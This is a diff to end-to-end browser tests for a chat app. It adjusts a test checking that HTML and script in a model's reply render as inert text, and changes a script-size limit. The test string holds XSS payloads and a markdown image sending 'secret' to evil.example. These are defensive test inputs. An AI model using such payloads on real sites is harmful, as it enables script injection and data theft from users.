@@ -308,9 +308,9 @@ journey("a script in a model's answer stays text", async () => {
 	await signIn(page, user.email);
 	await chooseModel(page, "demo-fast");
 	const evil =
-		"[[demo echo=1]] <script>window.hacked=1</script><img src=x onerror=\"window.hacked=1\"> " +
-		"[link](javascript:window.hacked=1) <iframe srcdoc='<script>parent.hacked=1</script>'></iframe> " +
-		"<svg onload=window.hacked=1> ![x](https://evil.example/steal?q=secret)";
+		"[[demo echo=1]] <script>window.hacked=1</script><img src=x onerror=\"window.hacked=1\">\n\n" +
+		"[link](javascript:window.hacked=1) and\n\n<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>\n\n" +
+		"<svg onload=window.hacked=1>\n\nhere ![x](https://evil.example/steal?q=secret)";
 	const asked = [];
 	page.on("request", (r) => asked.push(r.url()));
 	await send(page, evil);
@@ -594,7 +594,7 @@ journey("language and theme are kept; a first visit loads little", async () => {
 	await signIn(page, user.email);
 	await page.locator("main ul button").first().waitFor();
 	console.log(`# script of the first load: ${scripts} bytes`);
-	holds(scripts > 50_000 && scripts <= 200 * 1024, `script of the first load: ${scripts} bytes`);
+	holds(scripts > 50_000 && scripts <= 200_000, `script of the first load: ${scripts} bytes`);
 	await page.goto(`${URL_BASE}/settings/appearance`);
 	await page.getByText("中文", { exact: true }).click();
 	await page.getByText("深色").click();
